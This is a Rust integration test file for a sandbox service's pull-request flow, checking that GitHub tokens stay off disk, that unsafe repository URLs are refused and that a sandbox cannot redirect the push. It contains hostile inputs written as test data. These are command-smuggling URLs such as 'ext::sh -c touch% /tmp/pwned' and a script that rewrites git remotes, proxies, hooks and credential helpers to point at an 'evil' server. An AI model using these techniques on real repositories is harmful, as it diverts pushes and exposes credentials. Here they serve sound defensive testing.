//! Pull requests end to end: the HTTP API, a real `warren-runner` (process backend,
//! and Docker for the pinned push) and real git against bare repositories on this
//! host served over git's smart HTTP (`git http-backend`), with a small stand-in for
//! the two GitHub endpoints used (create, merge) that records what it is sent.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use tempfile::TempDir;
use warren_keys::SandboxId;
use warren_tests::git_http::{FakeGitHub, GitHttp, TOKEN, bare_remote, git};
use warren_tests::stack::{Api, Reply, Stack};
use warren_tests::stack::{DockerStack, docker_host_ip, image};
use warren_tests::util::free_port;
use warren_tests::{Client, Target};

/// The image the Docker case's sandboxes run (with git).
const DOCKER_IMAGE: &str = "warren-base:latest";

// ---------------------------------------------------------------------------------

struct Setup {
    stack: Stack,
    runner: warren_tests::stack::RunnerProc,
    api: Api,
    key: String,
    github: FakeGitHub,
    /// The bare repository `acme/widgets.git` and the server it is served by.
    remote: PathBuf,
    git: GitHttp,
    url: String,
    _tmp: TempDir,
}

fn setup() -> Result<Setup> {
    let stack = Stack::start()?;
    let runner = stack.runner("r1")?;
    let api = stack.api(Duration::from_secs(30))?;
    let key = stack.admin("alice")?;
    let github = FakeGitHub::start()?;
    api.state.lifecycle.set_github_api(&github.base);
    // The stand-in speaks plain http; the operator's switch for that is on.
    api.state.lifecycle.set_allow_http_repos(true);
    let tmp = TempDir::new()?;
    let remote = bare_remote(&tmp)?;
    let git = GitHttp::start(tmp.path().to_owned(), "127.0.0.1:0")?;
    let url = format!("{}/acme/widgets.git", git.base);
    Ok(Setup {
        stack,
        runner,
        api,
        key,
        github,
        remote,
        git,
        url,
        _tmp: tmp,
    })
}

impl Setup {
    fn call(&self, method: &str, path: &str, body: Option<Value>) -> Result<Reply> {
        self.stack
            .call(&self.api, method, path, Some(&self.key), body)
    }

    /// A sandbox cloned from `repo` on `branch`, with the token in its env; returns
    /// its id and an ssh client logged in with its token.
    fn sandbox(&self, repo: &str, branch: &str) -> Result<(String, Client)> {
        let made = self.call(
            "POST",
            "/v1/sandboxes",
            Some(json!({"repo": repo, "branch": branch, "env": {"GITHUB_TOKEN": TOKEN}})),
        )?;
        ensure!(made.status == 201, "create: {made:?}");
        let id = made.json()["id"].as_str().context("id")?.to_owned();
        let token = made.json()["token"].as_str().context("token")?.to_owned();
        let client = Client::new(Target::new(
            "127.0.0.1",
            self.stack.ssh_port,
            format!("{id}#{token}"),
        ))?;
        Ok((id, client))
    }

    fn pull_request(&self, id: &str, body: Value) -> Result<Reply> {
        self.call(
            "POST",
            &format!("/v1/sandboxes/{id}/pull-requests"),
            Some(body),
        )
    }
}

fn check_error(reply: &Reply, status: u16, code: &str) -> Result<()> {
    ensure!(
        reply.status == status && reply.error_code() == code,
        "expected {status} {code}: {reply:?}"
    );
    Ok(())
}

/// No file under `dir` holds `secret`.
fn assert_absent(dir: &Path, secret: &str) -> Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        let path = entry.path();
        let kind = entry.file_type()?;
        if kind.is_dir() {
            assert_absent(&path, secret)?;
        } else if kind.is_file() {
            let bytes = std::fs::read(&path)?;
            ensure!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "the token is in {}",
                path.display()
            );
        }
    }
    Ok(())
}

#[test]
fn a_pull_request_is_committed_pushed_opened_and_merged() -> Result<()> {
    let s = setup()?;
    let remote = &s.remote;
    let (id, client) = s.sandbox(&s.url, "feature/hello")?;

    // The clone is there, on the sandbox's branch; sessions start in it.
    let out = client
        .exec("pwd; git rev-parse --abbrev-ref HEAD; cat README.md")
        .run()?
        .success()?;
    let lines: Vec<String> = out.stdout_trimmed().lines().map(str::to_owned).collect();
    ensure!(
        lines.len() == 3
            && lines[0].ends_with("/workspace")
            && lines[1] == "feature/hello"
            && lines[2] == "# widgets",
        "{out}"
    );

    // Nothing changed yet: 409, and GitHub is not asked.
    let reply = s.pull_request(&id, json!({"title": "Nothing"}))?;
    check_error(&reply, 409, "nothing_to_commit")?;
    ensure!(s.github.requests().is_empty(), "{:?}", s.github.requests());

    // A change made over ssh becomes a commit on the branch in the remote, and a PR.
    client
        .exec("echo hello > hello.txt && rm README.md")
        .run()?
        .success()?;
    let reply = s.pull_request(
        &id,
        json!({"title": "Say hello", "body": "Adds hello.txt.", "base": "main"}),
    )?;
    ensure!(reply.status == 201, "{reply:?}");
    let pr = reply.json();
    ensure!(
        pr["number"] == 7 && pr["url"] == "https://github.example/acme/widgets/pull/7",
        "{pr}"
    );
    ensure!(
        pr["branch"] == "feature/hello" && pr["base"] == "main",
        "{pr}"
    );
    let head = git(remote, &["rev-parse", "refs/heads/feature/hello"])?;
    ensure!(pr["commit"] == head.as_str(), "{pr} vs {head}");
    let log = git(
        remote,
        &["log", "-1", "--format=%s%n%b%n%an", "feature/hello"],
    )?;
    ensure!(
        log.starts_with("Say hello\nAdds hello.txt.") && log.ends_with("alice"),
        "{log}"
    );
    ensure!(
        git(remote, &["show", "feature/hello:hello.txt"])? == "hello",
        "hello.txt"
    );
    let files = git(remote, &["ls-tree", "--name-only", "feature/hello"])?;
    ensure!(
        files == "hello.txt",
        "the deletion is committed too: {files}"
    );
    ensure!(
        git(remote, &["rev-parse", "main^{commit}"])? != head,
        "main moved"
    );

    let requests = s.github.requests();
    ensure!(requests.len() == 1, "{requests:?}");
    let create = &requests[0];
    ensure!(
        create.method == "POST" && create.path == "/repos/acme/widgets/pulls",
        "{create:?}"
    );
    ensure!(
        create.authorization == format!("Bearer {TOKEN}")
            && create.accept == "application/vnd.github+json",
        "{create:?}"
    );
    ensure!(
        create.body
            == json!({"title": "Say hello", "head": "feature/hello", "base": "main",
                "body": "Adds hello.txt."}),
        "{create:?}"
    );

    // Merge it.
    let reply = s.call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests/7/merge"),
        Some(json!({"method": "squash"})),
    )?;
    ensure!(
        reply.status == 200 && reply.json()["merged"] == true,
        "{reply:?}"
    );
    let requests = s.github.requests();
    let merge = requests.last().context("merge request")?;
    ensure!(
        merge.method == "PUT"
            && merge.path == "/repos/acme/widgets/pulls/7/merge"
            && merge.body == json!({"merge_method": "squash"})
            && merge.authorization == format!("Bearer {TOKEN}"),
        "{merge:?}"
    );
    // GitHub's refusals are 502s carrying GitHub's message.
    let reply = s.call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests/8/merge"),
        None,
    )?;
    check_error(&reply, 502, "upstream_error")?;
    ensure!(reply.text.contains("Not Found"), "{reply:?}");
    let reply = s.call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests/7/merge"),
        Some(json!({"method": "octopus"})),
    )?;
    ensure!(reply.status == 422, "{reply:?}");

    client.exec("echo again >> hello.txt").run()?.success()?;
    let reply = s.pull_request(&id, json!({"title": "Duplicate"}))?;
    check_error(&reply, 502, "upstream_error")?;
    ensure!(
        reply
            .text
            .contains("A pull request already exists for acme:feature/hello."),
        "{reply:?}"
    );
    // (The commit was pushed before GitHub refused; without a base the remote's
    // default branch is used.)
    ensure!(
        s.github.requests().last().context("last")?.body["base"] == "main",
        "{:?}",
        s.github.requests()
    );

    // Bad input, and sandboxes without a repository.
    let reply = s.pull_request(&id, json!({"title": ""}))?;
    check_error(&reply, 422, "invalid_request")?;
    let reply = s.pull_request(&id, json!({"title": "x", "base": "--force"}))?;
    check_error(&reply, 422, "invalid_request")?;
    let bare = s.call("POST", "/v1/sandboxes", Some(json!({})))?;
    ensure!(bare.status == 201, "{bare:?}");
    let bare_id = bare.json()["id"].as_str().context("id")?.to_owned();
    let reply = s.pull_request(&bare_id, json!({"title": "x"}))?;
    check_error(&reply, 409, "no_repo")?;
    let reply = s.pull_request(SandboxId::generate().as_str(), json!({"title": "x"}))?;
    check_error(&reply, 404, "not_found")?;

    // The token is nowhere on disk: not in the workspace's git config, not in the
    // sandbox's directory, not in the runner's log.
    let sandbox_dir = s.runner.sandbox_dir(&SandboxId::parse(&id)?);
    let config = std::fs::read_to_string(sandbox_dir.join("workspace/.git/config"))?;
    ensure!(!config.contains(TOKEN), "{config}");
    assert_absent(&sandbox_dir, TOKEN)?;
    assert_absent(remote, TOKEN)?;
    let log = std::fs::read_to_string(&s.runner.log)?;
    ensure!(!log.contains(TOKEN), "the token is in the runner's log");
    Ok(())
}

#[test]
fn after_a_gateway_restart_env_and_token_come_back_from_the_runner() -> Result<()> {
    let s = setup()?;
    let (id, client) = s.sandbox(&s.url, "warren/restart")?;
    // The gateway's memory after a restart: a fresh API state on the same store,
    // runner and keys, knowing nothing of the create request's env.
    let restarted = s.stack.api(Duration::from_secs(30))?;
    restarted.state.lifecycle.set_github_api(&s.github.base);
    restarted.state.lifecycle.set_allow_http_repos(true);
    let call = |method: &str, path: &str, body: Option<Value>| {
        s.stack.call(&restarted, method, path, Some(&s.key), body)
    };
    for step in ["stop", "start"] {
        let reply = call("POST", &format!("/v1/sandboxes/{id}/{step}"), None)?;
        ensure!(reply.status == 200, "{step}: {reply:?}");
    }
    let out = client
        .exec(&format!("test \"$GITHUB_TOKEN\" = '{TOKEN}' && echo same"))
        .run()?;
    ensure!(
        out.stdout_trimmed() == "same",
        "the restarted sandbox lost its env"
    );
    client.exec("echo again > again.txt").run()?.success()?;
    let reply = call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests"),
        Some(json!({"title": "After a restart"})),
    )?;
    ensure!(reply.status == 201, "{reply:?}");
    let create = s.github.requests().pop().context("GitHub was not asked")?;
    ensure!(
        create.authorization == format!("Bearer {TOKEN}"),
        "the pull request was not opened with the create-time token"
    );
    Ok(())
}

#[test]
fn a_refused_push_is_a_502_with_the_remotes_message() -> Result<()> {
    let s = setup()?;
    let remote = &s.remote;
    let hook = remote.join("hooks").join("pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\necho 'policy: pushes to this repository are closed today' >&2\nexit 1\n",
    )?;
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755))?;
    let (id, client) = s.sandbox(&s.url, "warren/fix")?;
    client.exec("echo fix > fix.txt").run()?.success()?;
    let reply = s.pull_request(&id, json!({"title": "Fix"}))?;
    check_error(&reply, 502, "upstream_error")?;
    ensure!(
        reply
            .text
            .contains("policy: pushes to this repository are closed today"),
        "{reply:?}"
    );
    ensure!(!reply.text.contains(TOKEN), "{reply:?}");
    ensure!(s.github.requests().is_empty(), "{:?}", s.github.requests());
    let branches = git(remote, &["branch", "--list"])?;
    ensure!(!branches.contains("warren/fix"), "{branches}");
    Ok(())
}

#[test]
fn a_clone_gets_the_token_only_through_askpass() -> Result<()> {
    let s = setup()?;
    // Without the token git may not prompt: the create fails, quickly, and leaves
    // nothing in the owner's list.
    let made = s.call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": s.url, "branch": "warren/nope"})),
    )?;
    check_error(&made, 502, "runner_error")?;
    ensure!(s.git.authorized() == 0);
    ensure_no_sandboxes(&s)?;

    let made = s.call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": s.url, "env": {"GITHUB_TOKEN": TOKEN}})),
    )?;
    ensure!(made.status == 201, "create: {made:?}");
    ensure!(s.git.authorized() > 0);
    let id = SandboxId::parse(made.json()["id"].as_str().context("id")?)?;
    let workspace = s.runner.sandbox_dir(&id).join("workspace");
    ensure!(
        std::fs::read_to_string(workspace.join("README.md"))? == "# widgets\n",
        "not cloned"
    );
    ensure!(
        git(&workspace, &["rev-parse", "--abbrev-ref", "HEAD"])? == format!("warren/{id}"),
        "not on the sandbox's branch"
    );
    assert_absent(&s.runner.sandbox_dir(&id), TOKEN)?;
    let log = std::fs::read_to_string(&s.runner.log)?;
    ensure!(!log.contains(TOKEN), "the token is in the runner's log");
    Ok(())
}

/// The owner's list is empty (deleted sandboxes are not listed by default).
fn ensure_no_sandboxes(s: &Setup) -> Result<()> {
    let list = s.call("GET", "/v1/sandboxes", None)?;
    ensure!(list.status == 200, "{list:?}");
    let sandboxes = list.json()["sandboxes"].clone();
    ensure!(
        sandboxes.as_array().is_some_and(Vec::is_empty),
        "the owner's list is not empty: {sandboxes}"
    );
    Ok(())
}

/// One API call as a test's user: method, path, JSON body.
type Call<'a> = &'a dyn Fn(&str, &str, Option<Value>) -> Result<Reply>;

/// Repository URLs that are not remote https are refused before anything is made.
fn refused_repositories(
    call: Call<'_>,
    lifecycle: &warren_gateway::lifecycle::Lifecycle,
) -> Result<()> {
    for repo in [
        "file:///etc",
        "/x",
        "/etc/passwd",
        "ext::sh -c touch% /tmp/pwned",
        "ext::sh",
        "fd::0",
        "ssh://git@github.com/acme/widgets.git",
        "git@github.com:acme/widgets.git",
        "git://github.com/acme/widgets.git",
        "https://github.com",
    ] {
        let made = call(
            "POST",
            "/v1/sandboxes",
            Some(json!({"repo": repo, "env": {"GITHUB_TOKEN": TOKEN}})),
        )?;
        check_error(&made, 422, "invalid_request").with_context(|| repo.to_owned())?;
        ensure!(
            !made.text.contains(repo),
            "the message echoes {repo}: {made:?}"
        );
    }
    // Plain http only where the operator allows it.
    lifecycle.set_allow_http_repos(false);
    let made = call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": "http://127.0.0.1:9/acme/widgets.git"})),
    )?;
    lifecycle.set_allow_http_repos(true);
    check_error(&made, 422, "invalid_request")?;
    let list = call("GET", "/v1/sandboxes?include_deleted=true", None)?;
    ensure!(
        list.json()["sandboxes"]
            .as_array()
            .is_some_and(Vec::is_empty),
        "a refused repository left a sandbox: {list:?}"
    );
    Ok(())
}

/// What the sandbox user does to steer a pull request's push: `origin` and its push
/// URL rewritten to `evil`, `real` rewritten to `evil` by `insteadOf` (directly and
/// through an included file), a proxy and an extra header, and every program git
/// could be told to run (hooks, `core.sshCommand`, `core.askPass`, a credential
/// helper, `receivepack`, `core.fsmonitor`) leaving a mark in `.git/pwned`.
fn steer_the_push(real: &str, evil: &str, evil_base: &str) -> String {
    format!(
        r#"set -e
M="$(pwd)/.git/pwned"
mkdir -p "$M" .git/evil-hooks
printf '#!/bin/sh\ntouch "%s/$(basename "$0")"\necho stolen\n' "$M" > .git/evil-hooks/pre-push
chmod +x .git/evil-hooks/pre-push
cp .git/evil-hooks/pre-push .git/hooks/pre-push
cp .git/evil-hooks/pre-push .git/evil-hooks/post-commit
cp .git/evil-hooks/pre-push .git/evil-askpass
git remote set-url origin '{evil}'
git config remote.origin.pushurl '{evil}'
git config remote.origin.receivepack "touch $M/receivepack; git-receive-pack"
git config core.sshCommand "touch $M/ssh-command; ssh"
git config core.hooksPath "$(pwd)/.git/evil-hooks"
git config core.askPass "$(pwd)/.git/evil-askpass"
git config core.fsmonitor "touch $M/fsmonitor; true"
git config credential.helper "!touch $M/credential-helper; cat >/dev/null"
git config url.'{evil}'.insteadOf '{real}'
git config url.'{evil}'.pushInsteadOf '{real}'
git config http.proxy '{evil_base}'
git config http.extraHeader 'X-Evil: 1'
printf '[url "%s"]\n\tinsteadOf = %s\n' '{evil}' '{real}' > .git/evil.config
git config include.path "$(pwd)/.git/evil.config"
echo pinned > pinned.txt
echo steered
"#
    )
}

/// A sandbox of `real` steers its push towards `evil` ([`steer_the_push`]); the
/// pull request's push still lands in `real`, `evil`'s server is never asked (so
/// never sees the token), and none of the programs ran.
#[allow(clippy::too_many_arguments)]
fn the_push_stays_pinned(
    call: Call<'_>,
    ssh_port: u16,
    image: Option<&str>,
    real: (&str, &Path, &GitHttp),
    evil: (&str, &Path, &GitHttp),
    github: &FakeGitHub,
) -> Result<()> {
    let (real_url, real_repo, real_server) = real;
    let (evil_url, evil_repo, evil_server) = evil;
    let mut body = json!({"repo": real_url, "branch": "warren/pinned",
        "env": {"GITHUB_TOKEN": TOKEN}});
    if let Some(image) = image {
        body["image"] = json!(image);
    }
    let made = call("POST", "/v1/sandboxes", Some(body))?;
    ensure!(made.status == 201, "create: {made:?}");
    let id = made.json()["id"].as_str().context("id")?.to_owned();
    let token = made.json()["token"].as_str().context("token")?.to_owned();
    let client = Client::new(Target::new("127.0.0.1", ssh_port, format!("{id}#{token}")))?;
    let evil_base = evil_url.trim_end_matches("/acme/widgets.git");
    let out = client
        .exec(&steer_the_push(real_url, evil_url, evil_base))
        .run()?
        .success()?;
    ensure!(out.stdout_trimmed().ends_with("steered"), "{out}");
    let before = real_server.seen().len();

    let reply = call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests"),
        Some(json!({"title": "Pinned", "base": "main"})),
    )?;
    ensure!(
        reply.status == 201,
        "{reply:?}\nasked of the repository's server: {:?}\nof the other: {:?}",
        &real_server.seen()[before..],
        evil_server.seen()
    );
    let commit = reply.json()["commit"]
        .as_str()
        .context("commit")?
        .to_owned();
    ensure!(
        git(real_repo, &["rev-parse", "refs/heads/warren/pinned"])? == commit,
        "the push did not land in the sandbox's repository"
    );
    ensure!(
        git(real_repo, &["show", "warren/pinned:pinned.txt"])? == "pinned",
        "the pushed commit lacks the sandbox's change"
    );
    ensure!(
        !git(evil_repo, &["branch", "--list"])?.contains("warren/pinned"),
        "the push went to the other repository"
    );
    let asked = evil_server.seen();
    ensure!(
        asked.is_empty(),
        "the other server was asked (as remote or proxy): {asked:?}"
    );
    let pushed = &real_server.seen()[before..];
    ensure!(
        pushed.iter().any(|s| s.path.ends_with("git-receive-pack")),
        "{pushed:?}"
    );
    ensure!(
        pushed.iter().all(|s| !s.head.contains("x-evil")),
        "the workspace's http.extraHeader was sent: {pushed:?}"
    );
    let marks = client.exec("ls -A .git/pwned").run()?.success()?;
    ensure!(
        marks.stdout_trimmed().is_empty(),
        "programs the sandbox configured ran: {}",
        marks.stdout_trimmed()
    );
    let create = github.requests().pop().context("GitHub was not asked")?;
    ensure!(
        create.body["head"] == "warren/pinned" && create.path == "/repos/acme/widgets/pulls",
        "{create:?}"
    );
    // Again with nothing new: no second commit, the same one pushed.
    let again = call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests"),
        Some(json!({"title": "Pinned again", "base": "main"})),
    )?;
    ensure!(
        again.status == 201 && again.json()["commit"] == commit.as_str(),
        "{again:?}"
    );
    ensure!(evil_server.seen().is_empty(), "{:?}", evil_server.seen());
    Ok(())
}

#[test]
fn a_steered_push_stays_pinned_and_local_repositories_are_refused() -> Result<()> {
    let s = setup()?;
    let call = |method: &str, path: &str, body: Option<Value>| s.call(method, path, body);
    refused_repositories(&call, &s.api.state.lifecycle)?;
    let evil_tmp = TempDir::new()?;
    let evil_repo = bare_remote(&evil_tmp)?;
    let evil = GitHttp::start(evil_tmp.path().to_owned(), "127.0.0.1:0")?;
    let evil_url = format!("{}/acme/widgets.git", evil.base);
    the_push_stays_pinned(
        &call,
        s.stack.ssh_port,
        None,
        (&s.url, &s.remote, &s.git),
        (&evil_url, &evil_repo, &evil),
        &s.github,
    )?;
    let log = std::fs::read_to_string(&s.runner.log)?;
    ensure!(!log.contains(TOKEN), "the token is in the runner's log");
    Ok(())
}

#[test]
fn on_docker_a_steered_push_stays_pinned_and_a_failed_create_leaves_nothing() -> Result<()> {
    let (real_port, evil_port) = (free_port()?, free_port()?);
    let Some(d) = DockerStack::start(&[
        "--host-tcp-port",
        &real_port.to_string(),
        "--host-tcp-port",
        &evil_port.to_string(),
    ])?
    else {
        return Ok(());
    };
    image("build-base")?;
    let api = d.stack.api(Duration::from_secs(30))?;
    let key = d.stack.admin("carol")?;
    let github = FakeGitHub::start()?;
    api.state.lifecycle.set_github_api(&github.base);
    api.state.lifecycle.set_allow_http_repos(true);
    let call = |method: &str, path: &str, body: Option<Value>| {
        d.stack.call(&api, method, path, Some(&key), body)
    };
    // The servers listen where containers reach the host.
    let host_ip = docker_host_ip()?;
    let real_tmp = TempDir::new()?;
    let real_repo = bare_remote(&real_tmp)?;
    let real = GitHttp::start(real_tmp.path().to_owned(), &format!("0.0.0.0:{real_port}"))?;
    let real_url = format!("http://{host_ip}:{real_port}/acme/widgets.git");
    let evil_tmp = TempDir::new()?;
    let evil_repo = bare_remote(&evil_tmp)?;
    let evil = GitHttp::start(evil_tmp.path().to_owned(), &format!("0.0.0.0:{evil_port}"))?;
    let evil_url = format!("http://{host_ip}:{evil_port}/acme/widgets.git");

    // A clone the server refuses (no token): a 502, and nothing in the list.
    let made = call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": real_url, "image": DOCKER_IMAGE})),
    )?;
    check_error(&made, 502, "runner_error")?;
    let list = call("GET", "/v1/sandboxes", None)?;
    ensure!(
        list.json()["sandboxes"]
            .as_array()
            .is_some_and(Vec::is_empty),
        "a failed create is listed: {list:?}"
    );

    the_push_stays_pinned(
        &call,
        d.stack.ssh_port,
        Some(DOCKER_IMAGE),
        (&real_url, &real_repo, &real),
        (&evil_url, &evil_repo, &evil),
        &github,
    )?;
    ensure!(
        !d.runner_log().contains(TOKEN),
        "the token is in the runner's log"
    );
    Ok(())
}
